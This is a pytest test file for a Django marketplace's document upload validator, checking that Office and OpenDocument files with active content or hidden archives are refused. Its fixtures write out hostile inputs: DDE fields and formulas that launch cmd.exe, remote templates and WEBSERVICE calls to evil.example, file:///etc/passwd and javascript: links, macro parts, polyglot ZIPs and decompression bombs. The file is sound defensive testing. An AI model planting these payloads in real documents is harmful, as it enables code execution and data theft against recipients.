from __future__ import annotations

import io
import re
import struct
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from marketplace.documents import intake
from marketplace.documents.intake import OFFICE
from marketplace.documents.office import archives
from marketplace.documents.tests import files
from marketplace.documents.tests.files import KIND, docx, opendocument, related, upload, xlsx

CHART = "word/charts/_rels/chart1.xml.rels"
WORKBOOK = {"word/embeddings/book.xlsx": f"{KIND}.spreadsheetml.sheet"}
PICTURE = {"word/media/image1.png": files.image()}
DOCUMENT_RELATIONS = "word/_rels/document.xml.rels"


def refusal(content: bytes) -> str:
    """The code of the refusal; empty when the file is taken as it is."""
    try:
        assert intake.clean(upload(content, "piece"), OFFICE).content == content
    except ValidationError as error:
        return str(error.code)
    return ""


def field(*pieces: str, end: str = "end") -> str:
    """A field whose instruction is cut into pieces, as Word cuts them."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="{end}"/>'


def around(before: str, inner: str, after: str) -> str:
    """A field with another one in its instruction."""
    cut = field("@").partition("@")
    return f"{cut[0]}{before}</w:instrText></w:r>{inner}<w:r><w:instrText>{after}{cut[2]}"


def outside(sort: str, target: str) -> bytes:
    return docx(parts={DOCUMENT_RELATIONS: related((sort, target), mode="External")})


def of_a_chart(workbook: bytes, sort: str = "package", rels: str = CHART) -> bytes:
    return docx(
        kinds=WORKBOOK, parts={rels: related((sort, "../embeddings/book.xlsx")), "word/embeddings/book.xlsx": workbook}
    )


def linked(element: str, href: str) -> bytes:
    return opendocument(f'<{element} xlink:href="{href}"/>')


ORDINARY = {
    "picture": docx(parts={**PICTURE, DOCUMENT_RELATIONS: related(("image", "media/image1.png"))}),
    "link to a page": outside("hyperlink", "https://example.org/?a=b"),
    "link to a letter": outside("hyperlink", "mailto:a@example.org"),
    "link inside": outside("hyperlink", "#titre"),
    "comments": docx(
        kinds={"word/comments.xml": f"{KIND}.wordprocessingml.comments+xml"},
        parts={"word/comments.xml": b"<x/>", DOCUMENT_RELATIONS: related(("comments", "comments.xml"))},
    ),
    "page number": docx(field(" PA", "GE ") + field("", end="separate") + '<w:fldSimple w:instr=" NUMPAGES "/>'),
    "field in a field": docx(around(" IF ", field("PAGE"), " = 1")),
    "link by a field": docx(field('HYPERLINK "https://example.org/"')),
    "chart and its workbook": of_a_chart(xlsx()),
    "a folder": docx(parts={"word/media/": b""}),
    "formula": xlsx('<f>SUM(A1:B2)&amp;"a|b"&amp;Feuil2!A1&amp;HYPERLINK("https://example.org")</f>'),
    "link of a text": linked("text:a", "https://example.org/"),
    "picture of a text": opendocument('<draw:image xlink:href="Pictures/a.png"/>', {"Pictures/a.png": files.image()}),
    "drawn inside": opendocument('<draw:object xlink:href="./Object 1"/>', {"Object 1/content.xml": b"<x/>"}),
    "chart of its sheet": linked("office:chart", ".."),
    "template on the disk": linked("meta:template", "file:///C:/Users/moi/modele.ott"),
    "formula of a sheet": opendocument('<table:table-cell table:formula="of:=SUM([.A1])"/>', kind="spreadsheet"),
}  # fmt: skip


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_office_file_passes(name: str) -> None:
    assert refusal(ORDINARY[name]) == ""


VBA = "application/vnd.ms-office.vbaProject"
ACTIVE = {
    "remote template": outside("attachedTemplate", "https://evil.example/a.dotm"),
    "remote picture": outside("image", "https://evil.example/a.png"),
    "link to a disk": outside("hyperlink", "file://evil/share"),
    "link that runs": outside("hyperlink", "javascript:alert(1)"),
    "OLE object": docx(parts={"word/media/ole.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "relationship to an object": docx(parts={DOCUMENT_RELATIONS: related(("oleObject", "embeddings/o.bin"))}),
    "program": docx(parts={"word/media/a.png": b"MZ\x90"}),
    "macros": docx(kinds={"word/vbaProject.bin": VBA}, parts={"word/vbaProject.bin": b"x"}),
    "macros under another name": docx(kinds={"word/styles.bin": VBA}, parts={"word/styles.bin": b"x"}),
    "macros declared for later": docx(kinds={"word/none.bin": VBA}),
    "macro sheet": xlsx(
        kinds={"xl/macrosheets/s.xml": "application/vnd.ms-excel.macrosheet+xml"},
        parts={"xl/macrosheets/s.xml": b"<x/>"}
    ),
    "ActiveX": docx(kinds={"word/a.xml": "application/vnd.ms-office.activeX+xml"}, parts={"word/a.xml": b"<x/>"}),
    "HTML part": docx(kinds={"word/a.html": "text/html"}, parts={"word/a.html": b"<p/>"}),
    "HTML part called": docx("<w:altChunk/>"),
    "part of no type": docx(parts={"word/a.zzz": b"x"}),
    "relationships of another name": docx(kinds={"word/a.xml": files.RELATIONS}, parts={"word/a.xml": b"<x/>"}),
    "DDE field": docx(field("DDE", "AUTO c:\\\\cmd.exe")),
    "DDE field that never ends": docx(field(" DDE a", end="separate")),
    "DDE field in short": docx('<w:fldSimple w:instr="DDEAUTO a b"/>'),
    "deleted field": docx('<w:delInstrText>DDE "a"</w:delInstrText>'),
    "field named by another": docx(around("", field('QUOTE "DDE"'), " c:")),
    "field that fetches": docx(field('INCLUDEPICTURE "https://evil.example/a.png"')),
    "field that leads to a disk": docx(field('HYPERLINK "file://evil/share"')),
    "drawing that fetches": docx('<v:fill src="https://evil.example/a.png"/>'),
    "drawing that leads to a disk": docx('<v:shape href="file://evil/share"/>'),
    "macro of another file": docx('<v:shape macro="[1]!a"/>'),
    "DDE formula": xlsx("<f>cmd|'/c calc'!A0</f>"),
    "formula that fetches": xlsx('<f>_xlfn.WEBSERVICE("https://evil.example")</f>'),
    "entities": docx(parts={"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
    "no XML": docx(parts={"word/document.xml": b"no"}),
    "active workbook of a chart": of_a_chart(xlsx("<ddeLink/>")),
    "workbook outside a chart": of_a_chart(xlsx(), rels=DOCUMENT_RELATIONS),
    "workbook in a workbook": of_a_chart(xlsx(kinds={"xl/a.xlsx": f"{KIND}.spreadsheetml.sheet"})),
    "macro of an ODT": opendocument(parts={"Basic/Standard": b"x"}),
    "macro in small letters": opendocument(parts={"basic/Standard": b"x"}),
    "macro declared alone": opendocument(parts={"META-INF/manifest.xml": b'<file-entry full-path="Basic/a"/>'}),
    "event": opendocument(f"{'<office:a/>' * 100}<script:event-listener/>"),
    "events": opendocument("<office:event-listeners/>"),
    "form that runs": opendocument('<form:button form:name="vnd.sun.star.script:a"/>'),
    "OLE object of an ODT": opendocument(parts={"Object 1": b"x"}),
    "keys of one’s own": opendocument(parts={"Configurations2/accelerator/current.xml": b"<x/>"}),
    "text that leads to a disk": linked("text:a", "file:///etc/passwd"),
    "picture from outside": linked("draw:image", "https://evil.example/a.png"),
    "picture from above": linked("draw:image", "Pictures/../../a.png"),
    "template from outside": linked("meta:template", "https://evil.example/a.ott"),
    "template from a share": linked("meta:template", "file:////evil/a.ott"),
    "macro of a sheet’s cell": opendocument("<table:error-macro/>", kind="spreadsheet"),
    "other formula": opendocument('<table:table-cell table:formula="of:=DDE(&quot;a&quot;)"/>', kind="spreadsheet"),
}  # fmt: skip


@pytest.mark.parametrize("name", ACTIVE)
def test_office_file_in_which_something_acts_is_refused(name: str) -> None:
    assert refusal(ACTIVE[name]) == "active"


def test_refusal_says_what_to_do() -> None:
    with translation.override("fr"), pytest.raises(ValidationError) as error:
        intake.clean(upload(docx("<w:altChunk/>")), OFFICE)
    assert error.value.messages == [
        "Ce fichier contient du contenu actif, ou un élément que nous ne pouvons pas vérifier (macro, objet incorporé, "
        "lien ou donnée externe). Enregistrez-le en PDF et envoyez le PDF."
    ]


class Stream(io.BytesIO):
    """A file that only goes on, such as a download: sizes stand behind the parts."""

    def tell(self) -> int:
        raise OSError


def packed(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED, out: io.BytesIO | None = None) -> bytearray:
    """A ZIP as other programs write it."""
    target = out or io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as folder:
        for name, content in entries.items():
            folder.writestr(name, content)
    return bytearray(target.getvalue())


PARTS = {"mimetype": intake.ODT.encode(), "content.xml": b"<x/>"}


@pytest.mark.parametrize("out", [io.BytesIO, Stream])
@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_archive_of_any_writer_passes(method: int, out: type[io.BytesIO]) -> None:
    assert refusal(bytes(packed(PARTS, method, out()))) == ""


def changed(place: int, value: bytes) -> bytes:
    """The first part's own header, or the end, changed by hand."""
    raw = packed(PARTS)
    raw[place : place + len(value)] = value
    return bytes(raw)


HIDDEN = {
    "PDF behind": docx() + files.pdf(),
    "words behind": docx() + b"<script>",
    "another before": files.archive(a=b"b") + docx(),
    "PDF in front": files.archive(mimetype=intake.ODT.encode(), a=b"%PDF-1.7"),
    "two names": bytes(packed(PARTS)).replace(b"content.xml", b"CONTENT.xml", 1),
    "two sizes": changed(22, b"\xff"),
    "two methods": changed(8, b"\0"),
    "a name above": files.archive(**{**PARTS, "../a": b"b"}),
    "a name twice": files.archive(**{**PARTS, "Content.xml": b"b"}),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_office_file_that_hides_a_second_one_is_refused(name: str) -> None:
    assert refusal(HIDDEN[name]) == "polyglot"


def without(n: int) -> bytes:
    """An archive of three parts whose directory leaves one out."""
    raw = packed({"a": b"b", **PARTS}, zipfile.ZIP_STORED)
    entries = [*(found.start() for found in re.finditer(b"PK\x01\x02", raw)), raw.index(b"PK\x05\x06")]
    start, size = entries[0], entries[-1] - entries[0] - entries[n + 1] + entries[n]
    kept = raw[: entries[n]] + raw[entries[n + 1] : -22]
    return bytes(kept) + struct.pack("<4s4xHHLLH", b"PK\x05\x06", 2, 2, size, start, 0)


@pytest.mark.parametrize("n", [0, 2])
def test_part_that_the_directory_leaves_out_is_refused(n: int) -> None:
    assert refusal(without(n)) == "polyglot"


def test_part_that_needs_a_password_or_a_rare_method_is_refused() -> None:
    assert refusal(bytes(packed(PARTS, zipfile.ZIP_BZIP2))) == "active"


def test_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    began = time.monotonic()
    assert refusal(bytes(packed({**PARTS, "a": b"\0" * 50_000_000, "b": b"\0" * 60_000_000}))) == "active"
    assert time.monotonic() - began < 5
    monkeypatch.setattr(archives, "MOST_PARTS", 1)
    assert refusal(opendocument()) == "active"


def test_file_of_too_many_elements_is_refused_with_those_inside_it(monkeypatch: pytest.MonkeyPatch) -> None:
    plain, charted = docx("<w:r/>" * 60), of_a_chart(xlsx("<v/>" * 60))
    assert refusal(plain) == refusal(charted) == ""
    monkeypatch.setattr(archives, "MOST_ELEMENTS", 50)
    assert refusal(plain) == refusal(charted) == "active"
